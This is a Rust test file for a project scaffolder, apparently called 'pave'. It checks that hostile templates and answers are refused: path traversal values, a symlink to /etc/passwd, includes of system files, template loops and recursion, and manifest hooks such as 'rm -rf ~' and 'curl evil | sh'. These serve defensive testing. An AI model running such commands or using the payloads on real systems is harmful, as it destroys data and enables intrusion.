//! The holes other scaffolders had to fix: path escapes, symlinks, template sandbox escapes and
//! hostile templates that never end. Each refusal exits 2 and writes nothing.

use crate::support::*;
use predicates::prelude::*;

fn path_gp() -> GoldenPathBuilder {
    GoldenPathBuilder::new(&format!(
        "{MANIFEST_HEAD}parameters:\n  dir: {{type: string}}\ncomponents:\n  app: {{}}\n"
    ))
    .file("components/app/{{ dir }}/evil.txt", "x\n")
}

#[test]
fn answer_with_dot_dot_cannot_escape_the_target() {
    refused(
        &path_gp().arg(),
        &["--set", "dir=.."],
        &["renders to an unsafe path: `../evil.txt` escapes the target"],
    );
    refused(
        &path_gp().arg(),
        &["--set", "dir=../../etc"],
        &["has a segment containing a path separator"],
    );
}

#[test]
fn absolute_answer_cannot_escape_the_target() {
    refused(
        &path_gp().arg(),
        &["--set", "dir=/tmp/pwned"],
        &["has a segment containing a path separator"],
    );
    refused(
        &path_gp().arg(),
        &["--set", "dir=C:"],
        &["starts with a drive letter"],
    );
}

#[test]
fn nothing_is_rendered_into_dot_git() {
    refused(
        &path_gp().arg(),
        &["--set", "dir=.git"],
        &["is inside `.git`"],
    );
}

#[test]
fn a_golden_path_cannot_overwrite_the_lock() {
    let gp = GoldenPathBuilder::new(&format!("{MANIFEST_HEAD}components:\n  app: {{}}\n"))
        .file("components/app/.pave/lock.yaml", "x\n");
    refused(&gp.arg(), &[], &["reserved for pave's lock"]);
}

#[test]
fn symlink_inside_a_golden_path_is_refused() {
    let gp = GoldenPathBuilder::demo();
    std::os::unix::fs::symlink("/etc/passwd", gp.path().join("components/app/passwd")).unwrap();
    refused(
        &gp.arg(),
        &["--set", "name=x"],
        &["symbolic links are not allowed in a golden path"],
    );
}

#[test]
fn includes_stay_inside_the_golden_path() {
    for include in [
        "/etc/passwd",
        "../../../../etc/passwd",
        "../golden-path.yaml/../../../x",
    ] {
        let gp = GoldenPathBuilder::demo().file(
            "components/app/x.txt.jinja",
            &format!("{{% include '{include}' %}}\n"),
        );
        refused(&gp.arg(), &["--set", "name=x"], &["template not found"]);
    }
    // Relative includes inside the golden path work.
    let gp = GoldenPathBuilder::demo()
        .file("partials/header.jinja", "header for {{ name }}\n")
        .file(
            "components/app/x.txt.jinja",
            "{% include 'partials/header.jinja' %}{% include './y.part' %}\n",
        )
        .file("components/app/y.part", "part\n");
    let (_tmp, dir) = target();
    pave_new(&gp.arg(), &dir, &["--set", "name=x", "--no-git"])
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(dir.join("x.txt")).unwrap(),
        "header for x\npart\n"
    );
}

#[test]
fn templates_cannot_read_the_environment() {
    let gp = GoldenPathBuilder::demo().file("components/app/x.txt.jinja", "{{ env.HOME }}\n");
    refused(&gp.arg(), &["--set", "name=x"], &["undefined value"]);
    let gp = GoldenPathBuilder::demo().file("components/app/x.txt.jinja", "{{ lookup('HOME') }}\n");
    refused(
        &gp.arg(),
        &["--set", "name=x"],
        &["components/app/x.txt.jinja:1"],
    );
}

#[test]
fn endless_loop_runs_out_of_fuel() {
    let gp = GoldenPathBuilder::demo().file(
        "components/app/x.txt.jinja",
        "{% for a in range(100000) %}{% for b in range(100000) %}{{ a }}{% endfor %}{% endfor %}\n",
    );
    refused(&gp.arg(), &["--set", "name=x"], &["engine ran out of fuel"]);
}

#[test]
fn endless_recursion_is_stopped() {
    let gp = GoldenPathBuilder::demo().file(
        "components/app/x.txt.jinja",
        "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}\n",
    );
    refused(&gp.arg(), &["--set", "name=x"], &["recursion"]);
    let gp = GoldenPathBuilder::demo().file(
        "components/app/x.txt.jinja",
        "{% include 'components/app/x.txt.jinja' %}\n",
    );
    refused(&gp.arg(), &["--set", "name=x"], &["recursion"]);
}

#[test]
fn target_that_is_a_symlink_is_refused() {
    let (tmp, dir) = target();
    let elsewhere = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), &dir).unwrap();
    pave_new("rust-service", &dir, &["--set", "team=payments"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("is a symbolic link"));
    assert!(is_absent_or_empty(elsewhere.path()));
    assert_no_leftovers(tmp.path());
}

#[test]
fn there_are_no_hooks_that_run_code() {
    // copier's `_tasks`, cookiecutter's hooks, cargo-generate's rhai scripts: pave has none, and a
    // manifest that asks for them is refused rather than silently ignored.
    for key in ["hooks: {post: \"rm -rf ~\"}", "tasks: [\"curl evil | sh\"]"] {
        let gp =
            GoldenPathBuilder::new(&format!("{MANIFEST_HEAD}components:\n  app: {{}}\n{key}\n"));
        refused(&gp.arg(), &[], &["golden-path.yaml:7: ", "unknown field"]);
    }
}
